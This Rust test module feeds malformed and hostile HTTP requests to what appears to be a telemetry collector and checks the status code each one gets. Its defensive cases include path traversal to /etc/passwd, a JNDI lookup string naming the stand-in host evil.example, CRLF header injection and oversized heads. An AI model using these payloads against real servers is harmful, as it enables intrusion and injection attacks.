//! Heads of requests: methods, targets, versions and headers that no client sends.

use crate::hostile::case::{CLOSED, Case};
use crate::hostile::request::{ALONE, KEY, framed, native_with, raw};

const BAD: &[&str] = &["400"];
const TAKEN: &[&str] = &["202"];
const TOO_LARGE: &[&str] = &["431"];
const GOOD: &str = "{\"session\":\"h\",\"events\":[]}";

pub(super) fn cases() -> Vec<Case> {
    [lines(), headers()].concat()
}

fn lines() -> Vec<Case> {
    let case = |name: &str, line: &str, expect| {
        Case::send(
            "request line",
            name,
            raw(&format!("{line}\r\nhost: a\r\nx-api-key: {KEY}\r\n\r\n")),
            expect,
        )
    };
    let no_method: &[&str] = &["405 method_not_allowed"];
    vec![
        case("GET", "GET /v1/beacons HTTP/1.1", no_method),
        case("TRACE", "TRACE /v1/beacons HTTP/1.1", no_method),
        case("DELETE", "DELETE /collect HTTP/1.1", no_method),
        case("CONNECT", "CONNECT evil.example:443 HTTP/1.1", &["404 not_found"]),
        case("invented method", "BREW /v1/beacons HTTP/1.1", no_method),
        case("method of 60 kB", &format!("{} / HTTP/1.1", "A".repeat(60_000)), &["404 not_found"]),
        case("HTTP/0.9", "GET /", BAD),
        case("HTTP/2.0 in words", "GET / HTTP/2.0", BAD),
        case("HTTP/9.9", "GET / HTTP/9.9", BAD),
        case("preface of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM", BAD),
        case("path that climbs", "POST /v1/../../etc/passwd HTTP/1.1", &["404 not_found"]),
        case("path that climbs in escapes", "POST /%2e%2e/%2e%2e/etc/passwd HTTP/1.1", &["404 not_found"]),
        case("metrics on the public port", "GET /metrics HTTP/1.1", &["404 not_found"]),
        case("path of 60 kB", &format!("POST /{} HTTP/1.1", "a".repeat(60_000)), &["404 not_found"]),
        case("path of 70 kB", &format!("POST /{} HTTP/1.1", "a".repeat(70_000)), BAD),
        case("target with spaces", "POST /v1/ beacons HTTP/1.1", BAD),
        case("target with bytes that are no text", "POST /\u{ff}\u{fe} HTTP/1.1", BAD),
        case("target of another host", "POST http://evil.example/v1/metadata HTTP/1.1", &["404 not_found"]),
        Case::send(
            "request line",
            "greeting of TLS",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(),
            BAD,
        ),
        Case::send(
            "request line",
            "random bytes",
            (0..2_000u32).map(|n| ((n * n) >> 5) as u8).collect(),
            BAD,
        ),
    ]
}

fn headers() -> Vec<Case> {
    let length = format!("content-length: {}", GOOD.len());
    let case = |name: &str, header: &str, expect| {
        Case::send("headers", name, native_with(header, GOOD.as_bytes()), expect)
    };
    let bare = |name: &str, lines: &str, expect| {
        let head =
            format!("POST /v1/beacons HTTP/1.1\r\n{lines}\r\nx-api-key: {KEY}\r\n{length}\r\n\r\n{GOOD}");
        Case::send("headers", name, raw(&head), expect)
    };
    let many: Vec<_> = (0..200).map(|n| format!("x-{n}: y")).collect();
    vec![
        case("user agent of 100 kB", &format!("user-agent: {}", "Mozilla/5.0 (".repeat(7_700)), TAKEN),
        case("header of 130 kB", &format!("x-a: {}", "a".repeat(131_072)), TOO_LARGE),
        case("200 headers", &many.join("\r\n"), TOO_LARGE),
        case("name of 60 kB", &format!("{}: a", "n".repeat(60_000)), TAKEN),
        case("line end in a value", "x-a: b\rset-cookie: c", BAD),
        case("zero in a value", "x-a: b\0c", BAD),
        case("space before the colon", "x-a : b", BAD),
        case("folded line", "x-a: b\r\n c", BAD),
        case("no name", ": b", BAD),
        case("1,000 forwarded addresses", &format!("x-forwarded-for: {}", "10.0.0.1,".repeat(1_000)), TAKEN),
        case(
            "forwarded for nonsense",
            "x-forwarded-for: ${jndi:ldap://evil.example/a}, ::::, 999.1.1.1",
            TAKEN,
        ),
        case("session of 60 kB", &format!("x-faro-session-id: {}", "s".repeat(60_000)), TAKEN),
        case("unknown expectation", "expect: 200-maybe", TAKEN),
        case("upgrade to a websocket", "connection: upgrade\r\nupgrade: websocket", &["408 body_timeout"]),
        case(
            "upgrade to HTTP/2",
            "connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQ",
            TAKEN,
        ),
        bare("no host", "accept: */*", BAD),
        bare("two hosts", "host: a\r\nhost: b", BAD),
        Case::send(
            "headers",
            "line ends without return",
            raw(&format!("POST /v1/beacons HTTP/1.1\nhost: a\nx-api-key: {KEY}\n{length}\n\n{GOOD}")),
            TAKEN,
        ),
        Case::send(
            "headers",
            "oversize announced with a question",
            framed("expect: 100-continue\r\ncontent-length: 9999999", ""),
            &["413 body_too_large"],
        ),
        Case::send(
            "headers",
            "head that ends nowhere",
            raw(&format!("POST /v1/beacons HTTP/1.1\r\nhost: a\r\n{ALONE}x-a: {}", "a".repeat(140_000))),
            &["431"],
        ),
    ]
}

/// What a connection gets that says nothing sensible.
pub(super) const NOTHING: &[&str] = &[CLOSED];
